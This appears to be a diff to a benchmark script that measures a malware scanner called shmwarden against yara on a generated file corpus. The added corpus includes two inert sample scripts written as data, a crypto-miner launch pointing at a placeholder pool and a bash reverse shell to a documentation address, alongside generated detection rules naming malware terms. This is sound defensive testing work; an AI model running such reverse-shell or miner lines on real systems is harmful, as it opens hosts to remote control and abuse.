@@ -38,10 +38,16 @@ def corpus(directory, count):
     rng = random.Random(7)
     elves = [os.path.join("/usr/bin", n) for n in sorted(os.listdir("/usr/bin"))]
     elves = [p for p in elves if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) > 4096][:400]
+    samples = [
+        b"#!/bin/sh\n./kworker -o stratum+tcp://pool.example.org:3333 -u wallet\n",
+        b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+    ]
     total = 0
     for i in range(count):
         kind = i % 4
-        if kind in (0, 1):
+        if i % 40 == 5:
+            data = samples[(i // 40) % 2]
+        elif kind in (0, 1):
             with open(elves[(i * 7) % len(elves)], "rb") as f:
                 data = f.read()
         elif kind == 2:
@@ -59,15 +65,18 @@ def generated_rules(path, count):
     """`count` rules in the style of a community set: text and hex strings, a regex each fifth."""
     rng = random.Random(11)
     words = ["mimikatz", "beacon", "payload", "dropper", "inject", "keylog", "exfil", "crypt", "loader", "stager"]
+    texts = []
     with open(path, "w") as f:
         for i in range(count):
             a = rng.choice(words) + f"_{rng.randrange(1 << 30):x}"
+            texts.append(a)
             b = " ".join(f"{rng.randrange(256):02X}" for _ in range(8))
             f.write(f'rule generated_{i} : bench\n{{\n  meta:\n    description = "generated rule {i}"\n'
                     f'  strings:\n    $a = "{a}" ascii wide\n    $b = {{ {b} }}\n')
             if i % 5 == 0:
                 f.write(f'    $c = /{rng.choice(words)}[0-9]{{4,8}}\\.(so|bin)/\n')
             f.write("  condition:\n    any of them\n}\n\n")
+    return texts
 
 
 def timed(command):
@@ -80,22 +89,27 @@ def timed(command):
 
 
 def throughput(binary, rules, directory, total, rounds):
-    yara_times, ours_times = [], []
-    yara_out = ours_out = ""
-    # Warm the page cache and both programs once.
-    timed(["yara", "-r", "-w", rules, directory])
-    timed([binary, "scan", "--yara", "--rules", rules, "--json", directory])
+    """`yara -r`, `shmwarden scan --yara` (files mapped by libyara, as yara does), and the same
+    with each file read and SHA-256-checked as the agent reads a capture; rounds interleaved."""
+    yara = ["yara", "-r", "-w", rules, directory]
+    ours = [binary, "scan", "--yara", "--rules", rules, "--json", directory]
+    captured = ours[:3] + ["--as-captured"] + ours[3:]
+    for command in (yara, ours, captured):  # warm the page cache and each program once
+        timed(command)
+    times = {"yara": [], "shmwarden": [], "as_captured": []}
+    outputs = {}
     for _ in range(rounds):
-        t, yara_out = timed(["yara", "-r", "-w", rules, directory])
-        yara_times.append(t)
-        t, ours_out = timed([binary, "scan", "--yara", "--rules", rules, "--json", directory])
-        ours_times.append(t)
-    yara_matches = sorted(set(line.split()[1] for line in yara_out.splitlines() if line.strip()))
-    ours_matches = sorted(set(f["path"] for f in json.loads(ours_out) if f["verdict"]["matched"]))
-    y, o = percentile(yara_times, 50), percentile(ours_times, 50)
-    return {"yara_s": y, "shmwarden_s": o, "yara_mib_s": total / y / 2**20, "shmwarden_mib_s": total / o / 2**20,
-            "ratio": y / o, "rounds": rounds, "same_matches": yara_matches == ours_matches,
-            "matched_files": len(ours_matches)}
+        for name, command in (("yara", yara), ("shmwarden", ours), ("as_captured", captured)):
+            t, outputs[name] = timed(command)
+            times[name].append(t)
+    yara_matches = sorted(set(line.split()[1] for line in outputs["yara"].splitlines() if line.strip()))
+    ours_matches = sorted(set(f["path"] for f in json.loads(outputs["shmwarden"]) if f["verdict"]["matched"]))
+    captured_matches = sorted(set(f["path"] for f in json.loads(outputs["as_captured"]) if f["verdict"]["matched"]))
+    y, o, c = (percentile(times[name], 50) for name in ("yara", "shmwarden", "as_captured"))
+    return {"yara_s": y, "shmwarden_s": o, "as_captured_s": c, "yara_mib_s": total / y / 2**20,
+            "shmwarden_mib_s": total / o / 2**20, "as_captured_mib_s": total / c / 2**20,
+            "ratio": y / o, "as_captured_ratio": y / c, "rounds": rounds,
+            "same_matches": yara_matches == ours_matches == captured_matches, "matched_files": len(ours_matches)}
 
 
 def guard_first_sight(binary, rules, count, settle):
@@ -177,7 +191,12 @@ def main():
         results["corpus"] = {"files": files, "mib": total / 2**20}
         results["shipped_rules"] = throughput(binary, shipped, directory, total, rounds)
         generated = os.path.join(work, "generated.yar")
-        generated_rules(generated, 500)
+        texts = generated_rules(generated, 500)
+        # Ten files carry one of the generated rules' strings, so both tools have matches to agree on.
+        names = sorted(os.listdir(directory))
+        for n in range(10):
+            with open(os.path.join(directory, names[n * 37 % len(names)]), "ab") as f:
+                f.write(texts[n * 41 % len(texts)].encode())
         results["generated_500_rules"] = throughput(binary, generated, directory, total, rounds)
     finally:
         unmount(directory)
